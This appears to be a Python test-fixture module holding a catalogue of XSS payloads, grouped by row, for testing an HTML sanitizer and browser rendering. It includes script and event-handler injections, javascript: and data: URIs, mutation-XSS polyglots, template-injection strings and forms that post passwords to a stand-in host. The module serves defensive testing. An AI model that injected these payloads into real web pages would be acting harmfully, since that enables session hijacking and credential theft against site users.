"""SECURITY.md 3.3 (rows H01-H30) as data: the hostile vectors, the article page they travel in,
and the metadata of that page.

Shared by tests/test_sanitize.py (nh3 alone and the full pipeline) and tests/test_hostile_render.py
(the same output stored and rendered in headless Chromium). The payloads call alert(), confirm(),
prompt() or print(), or reach for a host under `.example` that must never be contacted: the
browser test turns any of those into a failure.
"""

from __future__ import annotations

import html
from dataclasses import dataclass, replace

# Hosts a vector may name. EVIL must never be contacted; IMAGES and TRACKER are https image hosts
# an article may legitimately show (a tracker's 1x1 image is an image: H22 strips its referrer).
EVIL = "evil.example"
IMAGES = "img.example.org"
TRACKER = "tracker.example"
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

# Body vectors per row: several spellings each, as the checklist lists them and then some.
BODY: dict[str, tuple[str, ...]] = {
    "H01": (
        "<script>alert(1)</script>",
        f"<script src=//{EVIL}/x.js></script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>",
        '<script type="module">confirm(1)</script>',
        "<ScRiPt\x0c>print()</sCrIpT >",
    ),
    "H02": (
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)><summary>plus</summary>détail</details>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<x onclick=alert(1)>x</x>",
        "<p onmouseover=alert(1)>survolez-moi</p>",
        "<img/src=x/onerror=confirm(1)>",
        "<img src=x ONERROR  =  print()>",
        "<audio src=x onerror=alert(1)></audio>",
        '<a href="https://example.org/" onclick="alert(1)" onfocus=alert(1)>lien</a>',
        "<div contenteditable autofocus onfocusin=alert(1)>édition</div>",
        "<marquee onstart=alert(1)>défile</marquee>",
    ),
    "H03": (
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><animate onbegin=alert(1)>",
        "<svg/onload=confirm(1)>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>clic</text></a></svg>',
        "<svg><image href=x onerror=alert(1) /></svg>",
    ),
    "H04": (
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>clic</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>",
        "<svg><animate attributeName=href values=javascript:confirm(1)>",
        "<svg><set attributeName=onmouseover to=alert(1) />",
        "<svg><discard onbegin=alert(1) />",
    ),
    "H05": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<math href="javascript:alert(1)">clic</math>',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
        '<img src onerror=alert(1)>"></style></h1>',
        "<math><style><img src=x onerror=alert(1)></style></math>",
    ),
    "H06": (
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        '<a href="\x01javascript:alert(1)">x</a>',
        '<a href="  javascript:alert(1)">x</a>',
        '<a href=" &#14;  javascript:alert(1)">x</a>',
        '<a href="javascript://%0aalert(1)">x</a>',
        '<a href="javascript:alert&lpar;1&rpar;">x</a>',
        "<a href=javascript&#58;confirm(1)>x</a>",
    ),
    "H07": (
        f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
        '<img src="data:text/html,<script>alert(1)</script>">',
        '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
        '<a href="data:,alert(1)">x</a>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
    ),
    "H08": (
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="livescript:alert(1)">x</a>',
        '<a href="feed:javascript:alert(1)">x</a>',
        '<a href="mocha:alert(1)">x</a>',
        f'<a href="view-source:https://{EVIL}/">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        f'<img src="blob:https://{EVIL}/6f0e">',
        f'<a href="jar:https://{EVIL}/x.jar!/">x</a>',
    ),
    "H09": (
        "<iframe src=javascript:alert(1)></iframe>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>">',
        '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
        "<frame src=javascript:alert(1)>",
        "<frameset onload=alert(1)>",
        f'<iframe src="https://{EVIL}/"></iframe>',
        '<IFRAME SRC="data:text/html,<script>alert(1)</script>"></IFRAME>',
        f'<portal src="https://{EVIL}/"></portal>',
    ),
    "H10": (
        f"<object data=https://{EVIL}/x.swf></object>",
        f"<embed src=https://{EVIL}/x.swf>",
        "<object data=x.swf></object>",
        "<embed src=x.swf>",
        "<applet code=X.class><param name=x value=y></applet>",
        '<object data="javascript:alert(1)"></object>',
        f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
        '<embed src="javascript:alert(1)">',
        f'<object type="text/x-scriptlet" data="https://{EVIL}/x.sct"></object>',
    ),
    "H11": (
        f"<form action=https://{EVIL}/><input type=password name=pw><button>Envoyer</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        '<button formaction="javascript:alert(1)">x</button>',
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<input type=image src=x onerror=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",
        f"<form id=f action=https://{EVIL}/></form><button form=f>Valider</button>",
        "<keygen autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>un</option></select>",
    ),
    "H12": (
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
        '<meta http-equiv="refresh" content="0; URL=\'data:text/html,<script>alert(1)</script>\'">',
        '<meta http-equiv="Content-Security-Policy" content="script-src *">',
        '<meta http-equiv="set-cookie" content="session=x">',
        '<meta charset="utf-7">',
    ),
    "H13": (
        f'<base href="https://{EVIL}/"><a href="page">relatif</a>',
        '<base href="javascript:alert(1)//"><a href="page">relatif</a>',
        "<base target=_blank>",
        f'<base href="https://{EVIL}/">',
    ),
    "H14": (
        f'<link rel=stylesheet href="https://{EVIL}/x.css">',
        f"<style>@import url(https://{EVIL}/x.css)</style>",
        '<p style="background:url(javascript:alert(1))">x</p>',
        '<p style="x:expression(alert(1))">x</p>',
        f"<p style=\"background-image:url('https://{EVIL}/t.png')\">x</p>",
        f"<style>body{{background:url(https://{EVIL}/bg.png)}}</style>",
        f'<link rel=import href="https://{EVIL}/x.html">',
        f'<link rel=prefetch href="https://{EVIL}/p">',
        f'<div style="-moz-binding:url(https://{EVIL}/x.xml#xss)">x</div>',
    ),
    "H15": (
        '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
        f'<a href="https://{EVIL}/" style="position:fixed;top:0;left:0;width:100%;'
        'height:100%;opacity:0">piège</a>',
        '<div class="site-header skip-link reader__lead">classes du site</div>',
        "<dialog open>boîte</dialog>",
        "<div popover=manual>bulle</div>",
    ),
    "H16": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<iframe><img src=x onerror=alert(1)></iframe>",
        '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
        '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
        "<style><img src=x onerror=alert(1)></style>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
    ),
    "H17": (
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if]><script>alert(1)</script>-->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!---><img src=x onerror=alert(1)>-->",
        '<? x="><img src=x onerror=alert(1)>">',
        '<!x y="><img src=x onerror=alert(1)>">',
        '</a x="><img src=x onerror=alert(1)>">',
    ),
    "H18": (
        "<a href=javascript:alert(1)>x</a>",
        "<img src=`x` onerror=`alert(1)`>",
        '<img src="x"onerror="alert(1)">',
        '<a title="x" href=javascript:alert(1)>x</a>',
        "<a title=\"a' href='javascript:alert(1)\">x</a>",
        "<img src='x' alt=\"'\"onerror=alert(1)//\">",
        '<img alt="x" title="y"/onerror=alert(1) src=x>',
        '<a href="https://example.org/" title="&quot; onmouseover=&quot;alert(1)">x</a>',
        '<img src="https://img.example.org/a.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
    ),
    "H19": (
        '<img srcset="javascript:alert(1) 1x">',
        "<video poster=javascript:alert(1)></video>",
        "<video><source src=javascript:alert(1)></video>",
        "<img lowsrc=javascript:alert(1)>",
        "<img dynsrc=javascript:alert(1)>",
        '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
        '<td background="javascript:alert(1)">',
        "<body background=javascript:alert(1)>",
        '<blockquote cite="javascript:alert(1)">citation</blockquote>',
        "<q cite=javascript:alert(1)>courte citation</q>",
        '<ins cite="data:text/html,<script>alert(1)</script>">ajout</ins>',
        f'<picture><source srcset="https://{EVIL}/x.png"><img src="https://{IMAGES}/a.png"></picture>',
        '<img src="https://img.example.org/a.png" longdesc="javascript:alert(1)">',
        "<input type=image src=javascript:alert(1)>",
        "<map name=m><area href=javascript:alert(1) shape=default></map>",
    ),
    "H20": (
        '<a href="/admin/delete/1">x</a>',
        '<img src="/logout">',
        '<img src="?delete=1">',
        '<a href="../../api/collections">x</a>',
        '<a href="#contenu">x</a>',
        '<a href="">vide</a>',
        '<a href="/\\evil.example/x">x</a>',
    ),
    "H21": (
        '<a href="https://example.org/" target="_blank">x</a>',
        '<a href="https://example.org/" target=_blank rel="opener">x</a>',
        '<a href="https://example.org/" rel="opener" target="_top">x</a>',
    ),
    "H22": (
        f"<img referrerpolicy=unsafe-url src=https://{TRACKER}/p.gif>",
        f'<a ping="https://{TRACKER}/p" href="https://example.org/">x</a>',
        f'<img src="https://{TRACKER}/pixel.gif" width="1" height="1">',
        '<a href="https://example.org/" referrerpolicy="unsafe-url">x</a>',
        f'<link rel=preconnect href="https://{TRACKER}">',
        f'<img src="https://{TRACKER}/p2.gif" attributionsrc="https://{TRACKER}/a">',
    ),
    "H23": (
        "<img name=getElementById src=x>",
        "<form id=x></form>",
        '<p id="__proto__" name="cookie">x</p>',
        '<a id=defaultView name=defaultView href="https://example.org/">x</a>',
        "<img name=cookie>",
        '<a id=contenu href="https://example.org/">ancre</a>',
        "<div id=perle-1>carte</div>",
        "<embed name=body>",
    ),
    "H24": (
        "<scr\0ipt>alert(1)</script>",
        "<img\0src=x onerror=alert(1)>",
        '<a href="java\0script:alert(1)">x</a>',
        "<img src=x on\0error=alert(1)>",
        '<a href="javascript\0:alert(1)">x</a>',
        "\ufeff<script>alert(1)</script>",
        '<a href="\x0bjavascript:alert(1)">x</a>',
        '<a href="\x1fjavascript:alert(1)">x</a>',
        '<a href="\u2028javascript:alert(1)">x</a>',
    ),
    "H25": (
        '<a href="https://example.org/">facture\u202efdp.exe</a>',
        "<p>avant\u2028après\u2029fin</p>",
        '<a href="https://example.org/" title="\u202eenrevni">lien</a>',
        "<p>\u2066isolé\u2069 et \u202bemboîté\u202c puis \u200fmarque</p>",
    ),
    "H26": (
        '<a href="&#x6A;avascript:alert(1)">x</a>',
        '<a href="java&Tab;script:alert(1)">x</a>',
        '<a href="java&NewLine;script:alert(1)">x</a>',
        '<a href="&#x0006A;avascript:alert(1)">x</a>',
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
        '<a href="javascript&#x3A;alert(1)">x</a>',
        '<a href="&Tab;javascript:alert(1)">x</a>',
        '<blockquote cite=" java&#x09;script:alert(1)">citation</blockquote>',
        '<q cite="&#x6A;avascript:alert(1)">citation</q>',
    ),
    "H27": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/"
        "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        '">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\>'
        "<plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex "
        "formaction=javascript:alert(/XSS/) type=submit>'-->\"></script><script>alert(1)"
        '</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>\'">',
        "\" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//",
        "'\"><img src=x onerror=alert(1)>",
        '"><svg/onload=alert(1)>',
        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed>"
        '</script><html " onmouseover=/*&lt;svg/*/onload=alert()//>',
        '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
    ),
    "H30": (
        "</script><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        '{"a":"</script><script>alert(1)</script>"}',
    ),
}


@dataclass(frozen=True)
class Meta:
    """What a page says about itself in its <head>, each value written as the page gives it."""

    title: str = "Animer une communauté en ligne"
    site_name: str = "Le carnet du CM"
    author: str = "Léa Martin"
    description: str = "Ce que l'animation d'une communauté demande au quotidien."
    image: str = f"https://{IMAGES}/lead.png"
    canonical: str = ""
    author_url: str = ""
    raw_title: bool = False  # the title written into <title> unescaped, as a hostile page would


PLAIN = Meta()
# Metadata vectors (H25, H28, H29, H30): they must render as text, or as no link at all.
METADATA: dict[str, tuple[Meta, ...]] = {
    "H25": (
        Meta(title="Facture \u202efdp.exe du mois", author="Léa\u202e nitraM"),
        Meta(title="Ligne\u2028séparée\u2029ici", site_name="Carnet\u2028du CM"),
    ),
    "H28": (
        Meta(
            title="</title><script>alert(1)</script>",
            site_name='"><svg onload=alert(1)>',
            author="<img src=x onerror=alert(1)>",
            description="Calculez {{7*7}} puis ${7*7}, #{7*7} et <%= 7*7 %> : un modèle de page "
            "ne doit jamais les évaluer.",
        ),
        Meta(title="</title><script>alert(1)</script> titre brut", raw_title=True),
        Meta(
            title="'\"><img src=x onerror=alert(1)>",
            site_name="' onmouseover='alert(1)",
            author='" onfocus="alert(1)" autofocus="',
            description="Fermez </textarea><script>alert(1)</script> puis {{ config }} et "
            "{% raw %} dans la description de cette page.",
        ),
    ),
    "H29": (
        Meta(
            image="javascript:alert(1)",
            canonical="data:text/html,<script>alert(1)</script>",
            author_url="vbscript:msgbox(1)",
        ),
        Meta(image="data:image/svg+xml,<svg onload=alert(1)>", canonical="javascript:alert(1)"),
        Meta(image="  java\tscript:alert(1)", author_url="javascript:alert(1)"),
        Meta(image=f"http://{IMAGES}/plain-http.png"),  # stored, never shown (http)
        Meta(image=f"//{IMAGES}/relative.png", canonical=f"https://{EVIL}/"),
    ),
    "H30": (
        Meta(
            title="</script><script>alert(1)</script>",
            description="\u2028</script><script>alert(1)</script>\u2029 puis du texte, assez "
            "pour servir de résumé à la page.",
            author="<!--<script>",
        ),
    ),
}
ROWS = tuple(f"H{i:02d}" for i in range(1, 31))

PROSE = (
    "Animer une communauté, c'est d'abord écouter : lire ce qui se dit, repérer les questions "
    "qui reviennent, comprendre ce que les membres attendent vraiment de la marque.",
    "Le community manager passe une bonne partie de sa journée à répondre, à remercier et à "
    "modérer. Il fait remonter aux équipes internes ce qu'il entend, le bon comme le moins bon.",
    "Une charte de modération claire, publiée et appliquée avec constance, évite la plupart "
    "des conflits. Elle dit ce qui est accepté, ce qui ne l'est pas, et ce qui arrive alors.",
    "Mesurer ne se résume pas à compter les abonnés : la qualité des échanges, le temps de "
    "réponse et le nombre de questions résolues disent bien plus de la santé d'une communauté.",
)


def article_page(vector: str = "", meta: Meta = PLAIN) -> str:
    """A French blog article carrying `vector` in its body and `meta` in its head."""
    esc = html.escape
    title = meta.title if meta.raw_title else esc(meta.title)
    head = [
        '<meta charset="utf-8">',
        f"<title>{title}</title>",
        f'<meta property="og:title" content="{esc(meta.title)}">',
        f'<meta property="og:site_name" content="{esc(meta.site_name)}">',
        f'<meta name="author" content="{esc(meta.author)}">',
        f'<meta name="description" content="{esc(meta.description)}">',
        f'<meta property="og:image" content="{esc(meta.image)}">',
        '<meta property="article:published_time" content="2023-05-04T09:00:00+02:00">',
    ]
    if meta.canonical:
        head.append(f'<link rel="canonical" href="{esc(meta.canonical)}">')
    author = esc(meta.author)
    if meta.author_url:
        author = f'<a rel="author" href="{esc(meta.author_url)}">{author}</a>'
    return (
        '<!DOCTYPE html><html lang="fr"><head>' + "".join(head) + "</head><body>"
        '<nav class="menu"><a href="/">Accueil</a> <a href="/contact">Contact</a></nav>'
        f'<article><h1>{esc(meta.title)}</h1><p class="byline">Par {author}</p>'
        f"<p>{PROSE[0]}</p><p>{PROSE[1]}</p>"
        f"<p>Un exemple vu sur un forum : {vector} et la discussion a continué.</p>"
        f"<div>{vector}</div>"
        f"<p>{PROSE[2]}</p><p>{PROSE[3]}</p></article>"
        "<footer><p>© Le carnet du CM</p></footer></body></html>"
    )


@dataclass(frozen=True)
class Vector:
    """One vector of one row: its id ("H06.3"), its body markup and the page's metadata."""

    id: str
    row: str
    body: str
    meta: Meta

    def page(self) -> str:
        """The whole article page this vector travels in."""
        return article_page(self.body, self.meta)


def all_vectors() -> list[Vector]:
    """Every vector of every row, body vectors first, in row order."""
    found: list[Vector] = []
    for row in ROWS:
        bodies = BODY.get(row, ())
        for i, body in enumerate(bodies, 1):
            found.append(Vector(f"{row}.{i}", row, body, PLAIN))
        for i, meta in enumerate(METADATA.get(row, ()), len(bodies) + 1):
            found.append(Vector(f"{row}.{i}", row, "", meta))
    return found


def with_title(vector: Vector, title: str) -> Vector:
    """The same vector, its page titled `title` (body vectors only: the title is not the test)."""
    return replace(vector, meta=replace(vector.meta, title=title))
